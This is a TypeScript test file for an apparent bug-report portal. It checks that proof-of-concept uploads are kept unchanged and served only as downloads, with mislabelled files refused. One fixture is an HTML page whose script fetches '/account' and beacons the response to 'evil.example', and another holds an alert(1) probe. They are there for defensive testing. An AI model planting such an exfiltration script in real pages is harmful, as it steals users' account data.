// ZIP archives, HAR captures, HTML pages and MP4/WebM videos are accepted
// as proofs of concept (issue 21), recognised by content and extension,
// kept exactly as sent (an archive is never unpacked) and only ever served
// for download: Content-Disposition attachment, nosniff, and never as
// text/html.
import assert from "node:assert/strict";
import { readFileSync } from "node:fs";
import path from "node:path";
import { after, before, describe, it } from "mocha";
import { insertReport } from "../support/fixtures.js";
import {
  createTestContext,
  createUser,
  shown,
  signedIn,
  type Browser,
  type TestContext,
} from "../support/harness.js";

const SCRIPTED_PAGE = Buffer.from(
  "<!doctype html><html><body><script>fetch('/account').then(r=>r.text()).then(t=>navigator.sendBeacon('https://evil.example/',t))</script></body></html>\n",
);
const HAR = Buffer.from(
  JSON.stringify({
    log: {
      version: "1.2",
      creator: { name: "Firefox", version: "120" },
      entries: [
        {
          request: {
            method: "GET",
            url: "https://portal.example.test/appointments/1002",
          },
          response: {
            status: 200,
            content: { text: "<script>alert(1)</script>" },
          },
        },
      ],
    },
  }),
);
const MP4 = Buffer.concat([
  Buffer.from([0, 0, 0, 0x18]),
  Buffer.from("ftypisom"),
  Buffer.from([0, 0, 2, 0]),
  Buffer.from("isomiso2"),
  Buffer.from([0, 0, 0, 8]),
  Buffer.from("free"),
]);
const WEBM = Buffer.from(
  "1A45DFA39F4286810142F7810142F2810442F381084282847765626D4287810442858102" +
    "18538067010000000000000000",
  "hex",
);
// A real archive holding a scripted index.html (test/fixtures/poc.zip).
const ZIP = readFileSync(
  path.join(import.meta.dirname, "..", "fixtures", "poc.zip"),
);

const KINDS = [
  { name: "poc.zip", bytes: ZIP, served: "application/zip" },
  { name: "capture.har", bytes: HAR, served: "application/octet-stream" },
  {
    name: "poc.html",
    bytes: SCRIPTED_PAGE,
    served: "application/octet-stream",
  },
  { name: "poc.htm", bytes: SCRIPTED_PAGE, served: "application/octet-stream" },
  { name: "recording.mp4", bytes: MP4, served: "video/mp4" },
  { name: "recording.webm", bytes: WEBM, served: "video/webm" },
] as const;

describe("download-only attachments", () => {
  let ctx: TestContext;
  let researcher: Browser;
  let triager: Browser;
  let id: string;

  const upload = async (name: string, bytes: Buffer) => {
    await researcher.refreshCsrf(`/reports/${id}`);
    return researcher.agent
      .post(`/reports/${id}/attachments`)
      .field("_csrf", researcher.csrf)
      .attach("attachments", bytes, {
        filename: name,
        // What the browser claims is never what decides.
        contentType: "text/html",
      });
  };
  const linkTo = async (name: string) => {
    const page = shown((await triager.agent.get(`/reports/${id}`)).text);
    const href = new RegExp(
      `href="(/reports/${id}/attachments/[^"]+)">${name.replace(".", "\\.")}<`,
    ).exec(page)?.[1];
    assert.ok(href, `no link to ${name} on the report page`);
    return href;
  };
  const download = (who: Browser, href: string) =>
    who.agent
      .get(href)
      .buffer(true)
      .parse((r, cb) => {
        const chunks: Buffer[] = [];
        r.on("data", (c: Buffer) => chunks.push(c));
        r.on("end", () => cb(null, Buffer.concat(chunks)));
      });

  before(async () => {
    ctx = await createTestContext();
    const reporter = await createUser(ctx, "researcher");
    id = (
      await insertReport(ctx, {
        reporterId: reporter.user.id,
        state: "acknowledged",
      })
    ).publicId;
    researcher = await signedIn(ctx, reporter);
    triager = await signedIn(ctx, await createUser(ctx, "triager"));
  });
  after(() => ctx.close());

  for (const kind of KINDS)
    it(`accepts ${kind.name} and serves it only as a download, byte for byte`, async () => {
      const res = await upload(kind.name, kind.bytes);
      assert.equal(res.status, 303, shown(res.text));
      for (const who of [triager, researcher]) {
        const file = await download(who, await linkTo(kind.name));
        assert.equal(file.status, 200);
        assert.equal(
          String(file.headers["content-type"]).split(";")[0],
          kind.served,
        );
        assert.doesNotMatch(String(file.headers["content-type"]), /html/);
        assert.match(
          String(file.headers["content-disposition"]),
          new RegExp(
            `^attachment; filename="?${kind.name.replace(".", "\\.")}"?$`,
          ),
        );
        assert.equal(file.headers["x-content-type-options"], "nosniff");
        assert.match(
          String(file.headers["content-security-policy"]),
          /sandbox/,
        );
        // Kept as sent: the archive was not unpacked, nothing rewritten.
        assert.ok(Buffer.compare(file.body as Buffer, kind.bytes) === 0);
      }
    });

  for (const [name, bytes, why] of [
    ["poc.png", ZIP, "an archive named as an image"],
    ["archive.zip", MP4, "a video named as an archive"],
    ["recording.mp4", ZIP, "an archive named as a video"],
    ["capture.har", Buffer.from('{"entries":[]}'), "JSON that is not a HAR"],
    ["capture.har", SCRIPTED_PAGE, "a page named as a HAR"],
    ["poc.txt", SCRIPTED_PAGE, "a page named as text"],
    [
      "poc.html",
      Buffer.from([0x4d, 0x5a, 0x90, 0x00, 0x03, 0x00]),
      "a program named as a page",
    ],
  ] as const)
    it(`refuses ${why} (${name})`, async () => {
      const before = (
        await ctx.db.selectFrom("attachments").select("id").execute()
      ).length;
      const res = await upload(name, bytes);
      assert.equal(res.status, 422);
      assert.match(
        shown(res.text),
        new RegExp(`Not accepted[^<]*${name.replace(".", "\\.")}`),
      );
      const after = (
        await ctx.db.selectFrom("attachments").select("id").execute()
      ).length;
      assert.equal(after, before, "nothing stored");
    });

  it("says on the forms which files are offered for download only", async () => {
    const form = shown((await researcher.agent.get("/reports/new")).text);
    assert.match(
      form,
      /ZIP archives, HAR captures, HTML pages and MP4 or WebM videos/,
    );
    assert.match(form, /accept="[^"]*\.zip,\.har,\.html,\.htm,\.mp4,\.webm"/);
  });
});
